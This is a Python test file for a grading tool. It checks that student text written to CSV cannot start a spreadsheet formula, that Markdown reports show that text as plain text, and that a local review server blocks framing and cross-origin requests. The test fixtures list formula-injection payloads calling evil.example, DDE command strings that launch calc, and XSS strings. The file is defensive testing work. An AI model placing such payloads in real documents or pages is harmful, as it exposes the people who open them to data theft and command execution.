"""What TAs open cannot act (issue 34): no cell of student text in a CSV the tools write starts a
spreadsheet formula, and a TA's marks read back exactly (grader/common/csvfile.py); student text in
a Markdown report is shown as text (grader/common/shown.markdown_text)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from grader.classroom.gradebook import CheckStats, ClassSummary, ReviewEntry
from grader.classroom.groups.cluster import Group
from grader.classroom.groups.collect import Answer
from grader.classroom.groups.marks import import_table, points_table, snapshot
from grader.classroom.groups.store import MarkStore
from grader.classroom.reports.group_files import write_answer_groups, write_group_table, write_points
from grader.classroom.reports.summary import to_markdown
from grader.common.csvfile import FORMULA_STARTS, cell, csv_text, read_dicts, unescape
from grader.common.shown import markdown_text
from grader.run.rubric import load_rubric

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=WEBSERVICE(\"http://evil.example\")",
            '=IMPORTXML("http://evil.example","//a")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''=1+1", "'plain"]
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def _formula_cells(path: Path) -> list[str]:
    return [c for c in _cells(path) if c[:1] in FORMULA_STARTS and not NUMBER.fullmatch(c)]


@pytest.mark.parametrize("text", [*PAYLOADS, "", "plain", "-1.5", "1e-06", "+3", "-", "'", "==", "-inf"])
def test_a_cell_never_starts_a_formula_and_reads_back_as_written(text: str):
    written = cell(text)
    assert written[:1] not in FORMULA_STARTS or NUMBER.fullmatch(written)
    assert unescape(written) == text
    header, rows = read_dicts(csv_text(["a", "b"], [[text, 1.5]]))
    assert header == ["a", "b"] and rows == [{"a": text, "b": "1.5"}]


def test_a_number_the_grader_wrote_is_left_a_number():
    assert [cell(v) for v in ("-0.5", "3", "1e+06", 2.5, -1)] == ["-0.5", "3", "1e+06", "2.5", "-1"]


def _hostile_groups() -> dict[str, list[Group]]:
    rubric = load_rubric()
    prose = next(p for p in rubric.written if p.manual_points > 0 and p.auto <= 0)
    members = [Answer(prose.id, "", f"{text[:8]}_{n}", text, text, where=text) for n, text in enumerate(PAYLOADS)]
    members.append(Answer(prose.id, "", "=evil.zip", "=HYPERLINK(\"x\")", "the same answer"))
    groups = [Group(prose.id, "", "prose", text[:20], [m], m, f"{prose.id}-{n + 1}", f"key{n}")
              for n, (m, text) in enumerate(zip(members, [*PAYLOADS, "fine"]))]
    return {prose.id: groups}


def test_answer_groups_groups_and_points_hold_no_formula_and_marks_round_trip(tmp_path: Path):
    rubric = load_rubric()
    groups = _hostile_groups()
    answers = write_answer_groups(groups, tmp_path / "answer_groups.csv")
    store = MarkStore.open(tmp_path)
    grouped = snapshot(groups, rubric)
    store.remember([])
    table = write_group_table(grouped, store, tmp_path / "groups.csv")
    assert _formula_cells(answers) == [] and _formula_cells(table) == []
    assert "'=cmd|' /C calc'!A0" in _cells(answers)
    # A TA marks every group in the spreadsheet, with comments that begin like formulas.
    with open(table, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    typed = [p for p in PAYLOADS if p[:1] not in "\t\r'"]   # what a TA types in a cell (kept as typed)
    for n, row in enumerate(rows):
        row["points"], row["comment"] = "1", typed[n % len(typed)]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    table.write_text(buffer.getvalue(), encoding="utf-8")
    marks = import_table(table, store, grouped)
    assert sorted(m.comment for m in marks) == sorted(typed[n % len(typed)] for n in range(len(rows)))
    again = write_group_table(grouped, store, tmp_path / "groups.csv")
    assert _formula_cells(again) == []
    assert import_table(again, store, grouped) == [], "reading the table back changed no mark"
    grades = tmp_path / "grades.csv"
    grades.write_text(csv_text(["submission", "names", "sids", "emails"],
                               [[g.members[0].submission, "=Evil Name", "@1", "-x"] for gs in groups.values() for g in gs]))
    points = write_points(points_table(grouped, store, grades), tmp_path / "ta_points.csv")
    assert _formula_cells(points) == [] and _formula_cells(grades) == []


def test_summary_md_shows_student_text_as_text():
    payload = "boom ![x](http://evil.example/p.png) <img src=x onerror=alert(1)> [link](javascript:alert(1)) | cell"
    shown = markdown_text(payload)
    html = MarkdownIt("commonmark").enable("table").render(f"| a |\n|---|\n| {shown} |\n")
    assert "<img" not in html and "<a " not in html and "onerror=alert(1)" in html.replace("&lt;", "<")
    assert "<td>" in html and html.count("<td>") == 1
    check = CheckStats("w2v_sigmoid", "1.1", "sigmoid", 1.0, 0.0, 0.0, 1, payload, 1)
    review = ReviewEntry("<img src=x onerror=alert(2)>.zip", "6.2", "1b_i", payload, "![y](http://evil.example/q.png)")
    summary = ClassSummary(1, 1, {"graded": 1}, ("[z](http://evil.example)",), 1.0, (0.0,), (check,), (review,))
    text = to_markdown(summary, plots=())
    rendered = MarkdownIt("commonmark").enable("table").render(text)
    assert "<img" not in rendered and "<a " not in rendered
    assert "onerror=alert(1)" in rendered.replace("&lt;", "<")


# -- the review server answers only itself ---------------------------------------------------------

@pytest.fixture()
def review_server(tmp_path: Path):
    import threading

    from grader.classroom.groups.marks import prints_of
    from grader.classroom.reports.group_files import write_snapshot
    from grader.classroom.review import make_server

    grouped = snapshot(_hostile_groups(), load_rubric())
    write_snapshot(grouped, tmp_path / "groups" / "groups.json")
    MarkStore.open(tmp_path).remember(prints_of(grouped))
    srv = make_server(tmp_path, port=0, who="ta-alice")
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    yield tmp_path, srv.server_address[1], grouped
    srv.shutdown()
    srv.server_close()


def _ask(port: int, method: str, path: str, *, headers: dict[str, str] | None = None, body: str = ""):
    import http.client

    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.request(method, path, body=body.encode() or None,
                 headers={"Host": f"127.0.0.1:{port}", **({"Content-Type": "application/x-www-form-urlencoded"}
                                                           if body else {}), **(headers or {})})
    reply = conn.getresponse()
    return reply.status, dict(reply.getheaders()), reply.read().decode()


def test_every_response_of_the_review_server_refuses_framing_and_outside_sources(review_server):
    _out, port, grouped = review_server
    question = grouped[0]["question"]
    for method, path, headers in [("GET", "/", {}), ("GET", f"/q/{question}", {}), ("GET", "/nothing", {}),
                                  ("GET", "/", {"Host": "evil.example"}), ("POST", "/mark", {}),
                                  ("POST", "/mark", {"Origin": "http://evil.example"})]:
        status, headers_back, _body = _ask(port, method, path, headers=headers)
        policy = headers_back.get("Content-Security-Policy", "")
        assert headers_back.get("X-Frame-Options") == "DENY", (method, path, status)
        assert "frame-ancestors 'none'" in policy and "default-src 'none'" in policy
        assert "http" not in policy and "*" not in policy and "unsafe-eval" not in policy
        scripts = [d for d in policy.split(";") if d.strip().startswith("script-src")]
        assert scripts in ([], [" script-src 'self'"]), scripts  # its own file at most: no inline script
    assert _ask(port, "GET", "/", headers={"Host": "evil.example"})[0] == 403


def test_a_mark_needs_the_form_token_and_a_same_origin_request(review_server):
    out, port, grouped = review_server
    question = grouped[0]["question"]
    page = _ask(port, "GET", f"/q/{question}")[2]
    token = re.search(r'name="token" value="([^"]+)"', page).group(1)
    fp = re.search(r'id="mark-([^"]+)"', page).group(1)
    body = f"token={token}&fingerprint={fp}&points=1&comment=ok&back=/q/{question}"
    own = f"http://127.0.0.1:{port}"
    for headers in ({}, {"Origin": "http://evil.example"}, {"Origin": "null"},
                    {"Referer": "http://evil.example/x"}, {"Referer": f"{own}.evil.example/q/{question}"}):
        status, _, text = _ask(port, "POST", "/mark", headers=headers, body=body)
        assert status == 403 and "cross-origin" in text, headers
    assert MarkStore.open(out).journal == []
    assert _ask(port, "POST", "/mark", headers={"Origin": own}, body=body.replace(token, "forged"))[0] == 400
    assert _ask(port, "POST", "/mark", headers={"Referer": f"{own}/q/{question}"}, body=body)[0] == 303
    assert [m.comment for m in MarkStore.open(out).journal] == ["ok"]
